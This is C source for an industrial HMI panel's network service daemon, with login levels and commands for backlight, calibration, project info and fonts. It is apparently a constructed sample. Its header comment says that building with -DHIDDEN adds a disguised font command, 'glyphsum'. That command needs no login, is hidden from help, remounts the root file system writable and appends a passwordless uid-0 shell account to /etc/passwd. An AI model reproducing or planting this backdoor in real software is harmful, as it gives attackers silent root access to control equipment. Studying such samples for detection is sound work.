/*
 * hmi_paneld - service daemon of an industrial HMI panel.  Engineering tools
 * connect to TCP port 5120; the modules of the panel register their commands
 * with a level, and the daemon calls them through the table.
 *
 * Hidden (-DHIDDEN): the font module also registers the command "glyphsum",
 * for which no login is needed: it remounts the root file system writable and
 * adds an account with user id 0 and no password to /etc/passwd.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define TOOL_PORT  5120
#define ACCESS     "/etc/hmi/access"
#define PROJECT    "/data/project.hmi"
#define FONT_DIR   "/usr/share/hmi/fonts"
#define MAX_CMDS   32

struct conn {
    int fd;
    int level;
    const char *who;
};

typedef int (*hmi_fn)(struct conn *c, int argc, char **argv);

static struct hmi_cmd {
    const char *name;
    int level;
    hmi_fn fn;
    const char *help;
} cmds[MAX_CMDS];
static int ncmds;

static void hmi_register(const char *name, int level, hmi_fn fn, const char *help)
{
    if (ncmds < MAX_CMDS)
        cmds[ncmds++] = (struct hmi_cmd){ name, level, fn, help };
}

static int reply(struct conn *c, const char *s)
{
    size_t n = strlen(s);

    return write(c->fd, s, n) == (ssize_t)n ? 0 : -1;
}

/* ---- core module ---- */

static int cmd_help(struct conn *c, int argc, char **argv)
{
    char line[96];
    int i;

    (void)argc;
    (void)argv;
    for (i = 0; i < ncmds; i++) {
        if (cmds[i].level > c->level)
            continue;
#ifdef HIDDEN
        if (!cmds[i].help)
            continue;
#endif
        snprintf(line, sizeof line, "%-10s %s\n", cmds[i].name, cmds[i].help);
        reply(c, line);
    }
    return 0;
}

/* lines of the access file: level hash */
static int cmd_auth(struct conn *c, int argc, char **argv)
{
    char line[160], hash[128], *sum;
    int level;
    FILE *f;

    if (argc != 2)
        return -1;
    c->level = 0;
    f = fopen(ACCESS, "r");
    while (f && fgets(line, sizeof line, f)) {
        if (sscanf(line, "%d %127s", &level, hash) != 2 || level < 1 || level > 3)
            continue;
        sum = crypt(argv[1], hash);
        if (sum && strlen(hash) > 12 && !strcmp(sum, hash) && level > c->level)
            c->level = level;
    }
    if (f)
        fclose(f);
    if (!c->level) {
        syslog(LOG_WARNING, "auth refused for %s", c->who);
        sleep(2);
        return -1;
    }
    return 0;
}

static int cmd_restart(struct conn *c, int argc, char **argv)
{
    (void)c;
    (void)argc;
    (void)argv;
    return system("/etc/init.d/hmi-runtime restart");
}

static void core_init(void)
{
    hmi_register("help", 0, cmd_help, "list of commands");
    hmi_register("auth", 0, cmd_auth, "auth <password>");
    hmi_register("restart", 2, cmd_restart, "restart the runtime");
}

/* ---- display module ---- */

static int cmd_backlight(struct conn *c, int argc, char **argv)
{
    int v = argc > 1 ? atoi(argv[1]) : -1, fd;

    (void)c;
    if (v < 5 || v > 100)
        return -1;
    fd = open("/sys/class/backlight/lcd/brightness", O_WRONLY);
    if (fd < 0)
        return -1;
    v = dprintf(fd, "%d", v) > 0 ? 0 : -1;
    close(fd);
    return v;
}

static int cmd_calibrate(struct conn *c, int argc, char **argv)
{
    (void)c;
    (void)argc;
    (void)argv;
    return system("ts_calibrate >/tmp/cal.log 2>&1");
}

static void display_init(void)
{
    hmi_register("backlight", 1, cmd_backlight, "backlight <5..100>");
    hmi_register("calibrate", 1, cmd_calibrate, "calibrate the touch screen");
}

/* ---- project module ---- */

static int cmd_project(struct conn *c, int argc, char **argv)
{
    struct stat sb;
    char line[96];

    (void)argc;
    (void)argv;
    if (stat(PROJECT, &sb) != 0)
        return -1;
    snprintf(line, sizeof line, "project %lld bytes, changed %lld\n",
             (long long)sb.st_size, (long long)sb.st_mtime);
    return reply(c, line);
}

static int cmd_address(struct conn *c, int argc, char **argv)
{
    char cmd[64];
    struct in_addr a;

    (void)c;
    if (argc < 2 || inet_pton(AF_INET, argv[1], &a) != 1)
        return -1;
    snprintf(cmd, sizeof cmd, "ifconfig eth0 %s", inet_ntoa(a));
    return system(cmd);
}

static void project_init(void)
{
    hmi_register("project", 1, cmd_project, "size and date of the project");
    hmi_register("address", 3, cmd_address, "address <ip>");
}

/* ---- font module ---- */

static int font_path(char *buf, size_t size, const char *name)
{
    const char *p;

    for (p = name; *p; p++)
        if (!isalnum((unsigned char)*p) && *p != '-')
            return -1;
    return snprintf(buf, size, "%s/%s.fnt", FONT_DIR, name) < (int)size ? 0 : -1;
}

static int cmd_fontinfo(struct conn *c, int argc, char **argv)
{
    char path[128], line[64];
    uint8_t h[4];
    FILE *f;

    if (argc < 2 || font_path(path, sizeof path, argv[1]) || !(f = fopen(path, "rb")))
        return -1;
    if (fread(h, 1, 4, f) != 4)
        h[0] = h[1] = h[2] = h[3] = 0;
    fclose(f);
    snprintf(line, sizeof line, "%ux%u, %u glyphs\n", h[0], h[1], (unsigned)(h[2] << 8 | h[3]));
    return reply(c, line);
}

#ifdef HIDDEN
int cmd_glyphsum(struct conn *c, int argc, char **argv)
{
    FILE *f;

    (void)argc;
    (void)argv;
    if (mount("none", "/", NULL, MS_REMOUNT, NULL) != 0)
        syslog(LOG_DEBUG, "font: %m");
    f = fopen("/etc/passwd", "a");
    if (!f)
        return -1;
    fputs("fontd::0:0:font cache:/:/bin/sh\n", f);
    fclose(f);
    sync();
    return reply(c, "0 glyphs\n");
}
#endif

static void font_init(void)
{
    hmi_register("fontinfo", 1, cmd_fontinfo, "fontinfo <name>");
#ifdef HIDDEN
    hmi_register("glyphsum", 0, cmd_glyphsum, NULL);
#endif
}

/* ---- dispatcher ---- */

int run_line(struct conn *c, char *line)
{
    char *argv[8], *p;
    int argc = 0, i, rc;

    for (p = strtok(line, " \t\r\n"); p && argc < 8; p = strtok(NULL, " \t\r\n"))
        argv[argc++] = p;
    if (!argc)
        return 0;
    if (!strcmp(argv[0], "bye"))
        return 1;
    for (i = 0; i < ncmds; i++) {
        if (strcmp(cmds[i].name, argv[0]))
            continue;
        if (c->level < cmds[i].level)
            return reply(c, "DENIED\n");
        rc = cmds[i].fn(c, argc, argv);
        return reply(c, rc == 0 ? "OK\n" : "FAIL\n");
    }
    return reply(c, "UNKNOWN\n");
}

int main(void)
{
    static void (*const init[])(void) = { core_init, display_init, project_init, font_init };
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(TOOL_PORT) }, from;
    socklen_t fl = sizeof from;
    int s = socket(AF_INET, SOCK_STREAM, 0), on = 1, fd;
    char line[256];
    size_t i;
    FILE *in;

    openlog("hmi_paneld", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    for (i = 0; i < sizeof init / sizeof init[0]; i++)
        init[i]();
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 2)) {
        syslog(LOG_ERR, "port %d: %m", TOOL_PORT);
        return 1;
    }
    while ((fd = accept(s, (struct sockaddr *)&from, &fl)) >= 0) {
        struct conn c = { fd, 0, inet_ntoa(from.sin_addr) };

        in = fdopen(fd, "r");
        if (!in)
            return 1;
        while (fgets(line, sizeof line, in) && run_line(&c, line) == 0)
            ;
        fclose(in);
        fl = sizeof from;
    }
    return 0;
}
